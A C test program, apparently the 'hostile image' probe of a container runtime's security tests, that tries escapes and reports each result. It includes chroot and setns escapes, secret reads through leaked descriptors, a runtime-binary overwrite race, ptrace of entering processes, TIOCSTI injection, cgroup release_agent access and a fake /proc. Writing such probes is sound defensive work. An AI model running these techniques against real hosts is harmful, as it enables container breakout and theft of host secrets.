/* What the hostile image runs: one static program, a verb for each thing to try.
   It prints `key=value` lines and decides nothing; the host's side does. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char UPWARDS[] = "../../../../../../../../../../../../";

static double now(void) {
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static int show_fd(const char *key, int fd) {
	char text[400];
	ssize_t n = read(fd, text, sizeof text - 1);
	if (n < 0)
		return 0;
	text[n] = 0;
	for (char *p = text; *p; p++)
		if (*p == '\n')
			*p = ' ';
	printf("%s=%s\n", key, text);
	return 1;
}

static int show_at(const char *key, int dir, const char *path) {
	int fd = openat(dir, path, O_RDONLY | O_NONBLOCK | O_CLOEXEC), shown;
	if (fd < 0)
		return 0;
	shown = show_fd(key, fd);
	close(fd);
	return shown;
}

/* `secret` is absolute; try it below `dir` and from as far up as `dir` leads. */
static int try_secret(int dir, const char *secret) {
	char path[600];
	snprintf(path, sizeof path, "%s%s", UPWARDS, secret + 1);
	return show_at("secret", dir, path) || show_at("secret", dir, secret + 1);
}

static void look(void) {
	char line[4096], path[64];
	extern char **environ;
	FILE *f = fopen("/proc/self/status", "re");
	while (f && fgets(line, sizeof line, f)) {
		char *colon = strchr(line, ':');
		if (!colon)
			continue;
		*colon = 0;
		char *value = colon + 1;
		while (*value == ' ' || *value == '\t')
			value++;
		value[strcspn(value, "\n")] = 0;
		printf("status.%s=%s\n", line, value);
	}
	if (f)
		fclose(f);
	printf("uid=%d\neuid=%d\ngid=%d\nsid=%d\n", getuid(), geteuid(), getgid(), getsid(0));
	gid_t groups[64];
	int n = getgroups(64, groups);
	for (int i = 0; i < n; i++)
		printf("group=%u\n", groups[i]);
	for (char **e = environ; *e; e++)
		printf("env=%s\n", *e);
	int tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
	printf("tty=%s\n", tty < 0 ? strerrorname_np(errno) : "open");
	if (tty >= 0)
		close(tty);
	for (int fd = 3; fd < 1024; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		ssize_t size = readlink(path, line, sizeof line - 1);
		line[size < 0 ? 0 : size] = 0;
		printf("fd=%d %s\n", fd, line);
	}
}

static void secret_by_fds(const char *secret) {
	for (int fd = 0; fd < 1024; fd++)
		if (fcntl(fd, F_GETFD) >= 0)
			try_secret(fd, secret);
}

static void chroot_escape(const char *secret) {
	mkdir("/.below", 0755);
	int up = open("/", O_RDONLY | O_DIRECTORY);
	if (chroot("/.below"))
		printf("chroot=%s\n", strerrorname_np(errno));
	if (fchdir(up))
		printf("fchdir=%s\n", strerrorname_np(errno));
	for (int i = 0; i < 20 && !chdir(".."); i++)
		;
	if (chroot("."))
		printf("chroot=%s\n", strerrorname_np(errno));
	show_at("secret", AT_FDCWD, secret);
}

static void setns_escape(const char *secret) {
	int fd = open("/proc/self/ns/mnt", O_RDONLY);
	if (unshare(CLONE_FS) || setns(fd, CLONE_NEWNS))
		printf("setns=%s\n", strerrorname_np(errno));
	else
		show_at("secret", AT_FDCWD, secret);
}

static void find_key(const char *name) {
	long id = syscall(SYS_keyctl, 10, -3, "user", name, 0); /* KEYCTL_SEARCH, session */
	printf("key=%s\n", id < 0 ? strerrorname_np(errno) : "found");
}

static void i386(void) {
#ifdef __x86_64__
	long result;
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(20L) : "memory", "r8", "r9", "r10", "r11");
	printf("i386=%ld\n", result);
#else
	printf("i386=none\n");
#endif
}

static void x32(void) {
#ifdef __x86_64__
	long result = syscall(0x40000000 | 39);
	printf("x32=%s\n", result < 0 ? strerrorname_np(errno) : "reached");
#else
	printf("x32=none\n");
#endif
}

static void alg(void) {
	int fd = socket(38, SOCK_SEQPACKET, 0);
	printf("alg=%s\n", fd < 0 ? strerrorname_np(errno) : "open");
}

static void push_back(void) {
	int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
	char c = '#';
	if (tty < 0)
		tty = 0;
	printf("tiocsti=%s\n", ioctl(tty, TIOCSTI, &c) ? strerrorname_np(errno) : "pushed");
}

static void device(int major_number, int minor_number) {
	unlink("/.node");
	if (mknod("/.node", S_IFCHR | 0600, makedev(major_number, minor_number))) {
		printf("mknod=%s\n", strerrorname_np(errno));
		return;
	}
	int fd = open("/.node", O_RDONLY | O_NONBLOCK);
	printf("device=%s\n", fd < 0 ? strerrorname_np(errno) : "open");
}

static void look_at(const char *path) {
	struct stat s;
	struct statfs fs;
	if (lstat(path, &s)) {
		printf("stat=%s %s\n", path, strerrorname_np(errno));
		return;
	}
	memset(&fs, 0, sizeof fs);
	statfs(path, &fs);
	printf("stat=%s mode=%o uid=%u rdev=%u:%u size=%lld fs=%lx\n", path, s.st_mode, s.st_uid,
	       major(s.st_rdev), minor(s.st_rdev), (long long)s.st_size, (long)fs.f_type);
}

static void open_for_writing(const char *path) {
	int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
	printf("openw=%s %s\n", path, fd < 0 ? strerrorname_np(errno) : "open");
	if (fd >= 0)
		close(fd);
}

static void read_path(const char *path) {
	char key[600];
	snprintf(key, sizeof key, "read.%s", path);
	if (!show_at(key, AT_FDCWD, path))
		printf("unread=%s %s\n", path, strerrorname_np(errno));
}

static void make(const char *path) {
	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	printf("make=%s %s\n", path, fd < 0 ? strerrorname_np(errno) : "made");
	if (fd >= 0 && write(fd, "hostile", 7) < 0)
		printf("write=%s\n", strerrorname_np(errno));
}

/* The file behind `fd` was the runtime's: write to it as soon as nobody runs it. */
static void overwrite(int fd, double seconds) {
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	for (double end = now() + seconds; now() < end; usleep(2000)) {
		int out = open(path, O_WRONLY | O_CLOEXEC);
		if (out < 0 && errno == ETXTBSY)
			continue;
		if (out < 0)
			break;
		printf("overwrite=%s\n", write(out, "#!gattack", 9) == 9 ? "written" : strerrorname_np(errno));
		return;
	}
	printf("overwrite=%s\n", strerrorname_np(errno));
}

static int is_ours(const struct stat *s) {
	static struct stat own;
	if (!own.st_ino)
		stat("/proc/self/exe", &own);
	return s->st_size == own.st_size; /* another container has a copy of its own */
}

/* Look at each process that comes to this pid namespace, before it is the container's program. */
static void watch(const char *mode, double seconds, const char *secret) {
	int kept[64], count = 0;
	char path[700], link[300];
	int done_ptrace = 0, done_secret = 0;
	printf("watching=1\n");
	for (double end = now() + seconds; now() < end;) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while (proc && (entry = readdir(proc))) {
			int pid = atoi(entry->d_name);
			struct stat s;
			if (pid <= 0 || pid == getpid())
				continue;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			if (*mode == 'e') {
				int fd = open(path, O_RDONLY | O_CLOEXEC);
				if (fd < 0)
					continue;
				if (fstat(fd, &s) || is_ours(&s) || count == 64) {
					close(fd);
					continue;
				}
				ssize_t size = readlink(path, link, sizeof link - 1);
				link[size < 0 ? 0 : size] = 0;
				printf("exe=%s\n", link);
				kept[count++] = fd;
			} else if (*mode == 'f' && !done_secret) {
				if (!stat(path, &s) && is_ours(&s))
					continue;
				snprintf(path, sizeof path, "/proc/%d/root%s", pid, secret);
				done_secret |= show_at("secret", AT_FDCWD, path);
				snprintf(path, sizeof path, "/proc/%d/cwd/%s%s", pid, UPWARDS, secret + 1);
				done_secret |= show_at("secret", AT_FDCWD, path);
				for (int n = 3; n < 24 && !done_secret; n++) {
					snprintf(path, sizeof path, "/proc/%d/fd/%d/%s%s", pid, n, UPWARDS, secret + 1);
					done_secret |= show_at("secret", AT_FDCWD, path);
				}
			} else if (*mode == 'v' && !done_secret) {
				if (!stat(path, &s) && is_ours(&s))
					continue;
				static char text[8192];
				snprintf(path, sizeof path, "/proc/%d/environ", pid);
				int fd = open(path, O_RDONLY | O_CLOEXEC);
				ssize_t size = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
				if (fd >= 0)
					close(fd);
				for (ssize_t at = 0; at < size; at += strlen(text + at) + 1) {
					text[size] = 0;
					if (!strncmp(text + at, "GATTACK_HOST=", 13)) {
						printf("variable=%s\n", text + at + 13);
						done_secret = 1;
					}
				}
			} else if (*mode == 'p' && !done_ptrace) {
				if (!stat(path, &s) && is_ours(&s))
					continue;
				if (ptrace(PTRACE_SEIZE, pid, 0, 0))
					continue;
				ptrace(PTRACE_INTERRUPT, pid, 0, 0);
				int status;
				for (int i = 0; i < 200 && waitpid(pid, &status, WNOHANG | __WALL) == 0; i++)
					usleep(1000);
				/* A stub of a few hundred bytes holds nothing of the host. */
				if (!stat(path, &s) && !is_ours(&s) && s.st_size > 100000) {
					ssize_t size = readlink(path, link, sizeof link - 1);
					link[size < 0 ? 0 : size] = 0;
					printf("ptrace=%lld %s\n", (long long)s.st_size, link);
					done_ptrace = 1;
				}
				ptrace(PTRACE_DETACH, pid, 0, 0);
			}
		}
		if (proc)
			closedir(proc);
	}
	for (int i = 0; i < count; i++)
		overwrite(kept[i], 0.2);
	printf("watched=1\n");
}

static void put(const char *path, const char *text) {
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd >= 0 && write(fd, text, strlen(text)) < 0)
		printf("write=%s\n", strerrorname_np(errno));
	close(fd);
}

/* Another /proc, for those who come later: no fd directory, a FIFO where a number is expected. */
static void fake_proc(const char *kind) {
	if (mount("fake", "/proc", "tmpfs", 0, NULL)) {
		printf("fake=%s\n", strerrorname_np(errno));
		return;
	}
	mkdir("/proc/self", 0755);
	mkdir("/proc/self/fd", 0755);
	mkdir("/proc/self/attr", 0755);
	mkdir("/proc/thread-self", 0755);
	mkdir("/proc/thread-self/attr", 0755);
	mkdir("/proc/1", 0755);
	mkdir("/proc/sys", 0755);
	mkdir("/proc/sys/kernel", 0755);
	put("/proc/self/attr/exec", "");
	put("/proc/self/status", "");
	put("/proc/self/mountinfo", "");
	if (*kind == 'w') {
		mkfifo("/proc/sys/kernel/cap_last_cap", 0644);
		mkfifo("/proc/sys/kernel/overflowuid", 0644);
		mkfifo("/proc/filesystems", 0644);
	}
	printf("fake=ready\n");
}

/* A process that leaves its parent, its session and its signals behind. */
static void leave_one(double seconds) {
	signal(SIGTERM, SIG_IGN);
	signal(SIGHUP, SIG_IGN);
	if (fork() == 0) {
		setsid();
		if (fork() == 0) {
			for (double end = now() + seconds; now() < end; usleep(50000))
				;
			_exit(0);
		}
		_exit(0);
	}
	wait(NULL);
	printf("left=1\n");
}

/* Never more than a few at a time, each only there to have another. */
static void leapfrog(double seconds) {
	double end = now() + seconds;
	signal(SIGCHLD, SIG_IGN);
	printf("leaping=1\n");
	while (now() < end) {
		pid_t child = fork();
		if (child > 0)
			_exit(0);
	}
}

int main(int argc, char **argv) {
	if (argc > 3 && !strcmp(argv[1], "into")) { /* for when the streams are what is attacked */
		int out = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0644);
		dup2(out, 1);
		close(out);
		argc -= 2;
		argv += 2;
	}
	const char *verb = argc > 1 ? argv[1] : "look";
	setvbuf(stdout, NULL, _IONBF, 0);
	printf("program=ran\n");
	if (!strcmp(verb, "look"))
		look();
	else if (!strcmp(verb, "secret-by-fds"))
		secret_by_fds(argv[2]);
	else if (!strcmp(verb, "secret-by-cwd"))
		try_secret(AT_FDCWD, argv[2]);
	else if (!strcmp(verb, "chroot-escape"))
		chroot_escape(argv[2]);
	else if (!strcmp(verb, "setns-escape"))
		setns_escape(argv[2]);
	else if (!strcmp(verb, "key"))
		find_key(argv[2]);
	else if (!strcmp(verb, "i386"))
		i386();
	else if (!strcmp(verb, "x32"))
		x32();
	else if (!strcmp(verb, "alg"))
		alg();
	else if (!strcmp(verb, "tiocsti"))
		push_back();
	else if (!strcmp(verb, "device"))
		device(atoi(argv[2]), atoi(argv[3]));
	else if (!strcmp(verb, "overwrite"))
		overwrite(atoi(argv[2]), atof(argv[3]));
	else if (!strcmp(verb, "watch"))
		watch(argv[2], atof(argv[3]), argc > 4 ? argv[4] : "/");
	else if (!strcmp(verb, "fake-proc"))
		fake_proc(argc > 2 ? argv[2] : "empty");
	else if (!strcmp(verb, "leave-one"))
		leave_one(atof(argv[2]));
	else if (!strcmp(verb, "leapfrog"))
		leapfrog(atof(argv[2]));
	else if (!strcmp(verb, "mount")) {
		if (mount("inside", argv[2], "tmpfs", 0, NULL))
			printf("mount=%s\n", strerrorname_np(errno));
		else
			printf("mount=done\n");
	} else if (!strcmp(verb, "mount-cgroup")) {
		mkdir("/.cg", 0755);
		unshare(CLONE_NEWCGROUP);
		if (mount("cg", "/.cg", argv[2], 0, argc > 3 ? argv[3] : NULL))
			printf("mount=%s\n", strerrorname_np(errno));
		else {
			printf("mount=done\n");
			open_for_writing("/.cg/release_agent");
			open_for_writing("/.cg/cgroup.procs");
		}
	} else if (!strcmp(verb, "remount-rw")) {
		if (mount("none", argv[2], NULL, MS_REMOUNT | MS_BIND, NULL))
			printf("remount=%s\n", strerrorname_np(errno));
		else
			printf("remount=done\n");
		open_for_writing(argv[3]);
	} else if (!strcmp(verb, "list")) {
		for (int i = 2; i < argc; i++) {
			DIR *d = opendir(argv[i]);
			struct dirent *e;
			while (d && (e = readdir(d)))
				printf("entry=%s/%s\n", argv[i], e->d_name);
		}
	} else if (!strcmp(verb, "files")) { /* r:PATH w:PATH s:PATH m:PATH ... */
		for (int i = 2; i < argc; i++) {
			switch (argv[i][0]) {
			case 'r':
				read_path(argv[i] + 2);
				break;
			case 'w':
				open_for_writing(argv[i] + 2);
				break;
			case 's':
				look_at(argv[i] + 2);
				break;
			case 'm':
				make(argv[i] + 2);
				break;
			case 'd':
				printf("mkdir=%s %s\n", argv[i] + 2, mkdir(argv[i] + 2, 0755) ? strerrorname_np(errno) : "made");
				break;
			}
		}
	}
	if (argc > 2 && !strcmp(verb, "sleep"))
		sleep(atoi(argv[2]));
	if (!strcmp(verb, "fake-proc") || !strcmp(verb, "mount"))
		sleep(30);
	printf("program=done\n");
	return 0;
}
